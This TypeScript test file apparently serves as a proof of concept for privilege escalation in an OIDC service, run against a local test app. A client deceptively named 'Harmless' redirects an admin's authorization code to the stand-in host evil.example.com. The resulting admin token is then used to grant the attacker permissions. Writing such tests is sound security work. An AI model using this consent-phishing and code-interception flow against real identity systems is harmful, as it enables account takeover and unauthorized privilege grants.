import { createHash, randomBytes } from 'node:crypto';
import { givenService } from '../support/clients.js';
import { startTestApp } from '../support/test-app.js';
import { Visitor } from '../support/visitor.js';

it('proof', async () => {
  const app = await startTestApp();
  const given = await givenService(app);
  const verifier = randomBytes(32).toString('base64url');
  const { client } = await given.manager.does('addClient', {
    service: given.slug,
    type: 'SPA',
    name: 'Harmless',
    redirectUris: ['https://evil.example.com/cb'],
  });
  const victim = new Visitor(app);
  const url = (scope: string) =>
    '/oidc/authorize?' +
    new URLSearchParams({
      client_id: client.clientId,
      redirect_uri: 'https://evil.example.com/cb',
      response_type: 'code',
      scope,
      state: 's',
      resource: app.identity.config.audience,
      code_challenge: createHash('sha256').update(verifier).digest('base64url'),
      code_challenge_method: 'S256',
    }).toString();
  const page = await victim.open(url('openid signet:permissions.manage'));
  const back = await victim.send(page, {
    email: given.admin.person.email,
    password: given.admin.person.password,
  });
  console.log(back.status, back.url.href, back.text.slice(0, 300));
  const r = await fetch(app.origin + '/oidc/token', {
    method: 'POST',
    body: new URLSearchParams({
      grant_type: 'authorization_code',
      code: back.url.searchParams.get('code') ?? '',
      redirect_uri: 'https://evil.example.com/cb',
      client_id: client.clientId,
      code_verifier: verifier,
    }),
  });
  const t: any = await r.json();
  console.log(
    r.status,
    t,
    t.access_token?.split('.')[1] && Buffer.from(t.access_token.split('.')[1], 'base64url').toString(),
  );
  const g = await app.client.send<any, any>(
    'mutation($i: GrantPermissionInput!){ grantPermission(input:$i){ __typename } }',
    { i: { userId: given.manager.person.id, permission: 'signet:permissions.manage' } },
    { token: t.access_token },
  );
  console.log(JSON.stringify(g.body));
  // third party, own permission only
  const third = await given.manager.does('addClient', {
    service: given.slug,
    type: 'SPA',
    name: 'Third',
    firstParty: false,
    redirectUris: ['https://evil.example.com/cb'],
  });
  const v2 = new Visitor(app);
  const p2 = await v2.open(
    url(`openid ${given.slug}:sign-in`).replace(client.clientId, third.client.clientId),
  );
  let b2 = await v2.send(p2, { email: given.admin.person.email, password: given.admin.person.password });
  console.log(b2.status, b2.url.href, b2.text.slice(0, 400));
  b2 = await v2.send(b2, { answer: 'agree' });
  console.log(b2.status, b2.url.href, b2.text.slice(0, 400));
  const r2 = await fetch(app.origin + '/oidc/token', {
    method: 'POST',
    body: new URLSearchParams({
      grant_type: 'authorization_code',
      code: b2.url.searchParams.get('code') ?? '',
      redirect_uri: 'https://evil.example.com/cb',
      client_id: third.client.clientId,
      code_verifier: verifier,
    }),
  });
  const t2: any = await r2.json();
  console.log(
    r2.status,
    t2,
    t2.access_token?.split('.')[1] && Buffer.from(t2.access_token.split('.')[1], 'base64url').toString(),
  );
  const g2 = await app.client.send<any, any>(
    'mutation($i: GrantPermissionInput!){ grantPermission(input:$i){ __typename } }',
    { i: { userId: given.manager.person.id, permission: 'signet:users.manage' } },
    { token: t2.access_token },
  );
  console.log(JSON.stringify(g2.body));
  await app.close();
});
